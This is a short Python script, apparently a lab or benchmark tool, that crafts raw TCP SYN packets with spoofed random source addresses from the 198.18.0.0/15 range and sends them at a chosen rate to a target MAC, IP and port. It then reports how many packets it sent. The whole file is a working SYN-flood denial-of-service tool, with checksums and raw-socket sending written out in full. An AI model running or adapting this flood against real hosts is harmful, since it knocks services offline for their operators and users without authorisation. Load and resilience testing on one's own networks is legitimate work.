"""SYNs from random addresses at a rate: flood.py MAC ADDRESS PORT RATE SECONDS."""
import json, random, socket, struct, sys, time

mac, address, port, rate, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
out.bind(('eth0', 0))
link = bytes.fromhex(mac.replace(':', '')) + bytes.fromhex('020000000099') + b'\x08\x00'
target = socket.inet_aton(address)


def total(data):
    value = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while value > 0xffff:
        value = (value & 0xffff) + (value >> 16)
    return ~value & 0xffff


def syn():
    # 198.18.0.0/15 is for benchmarks (RFC 2544): nobody answers there.
    source = struct.pack('!I', 0xc6120000 | random.getrandbits(17))
    ports = struct.pack('!HH', random.randint(1024, 65535), port)
    ip = struct.pack('!BBHHHBBH', 0x45, 0, 40, 1, 0x4000, 64, 6, 0) + source + target
    tcp = ports + struct.pack('!IIBBHHH', random.getrandbits(32), 0, 0x50, 2, 64240, 0, 0)
    check = total(source + target + struct.pack('!HH', 6, 20) + tcp)
    ip = ip[:10] + struct.pack('!H', total(ip)) + ip[12:]
    return link + ip + tcp[:16] + struct.pack('!H', check) + tcp[18:]


begin = time.monotonic()
packets = 0
while (now := time.monotonic() - begin) < seconds:
    for _ in range(min(200, int(now * rate) - packets)):
        out.send(syn())
        packets += 1
    time.sleep(0.001)
print(json.dumps({'packets': packets, 'seconds': time.monotonic() - begin}))
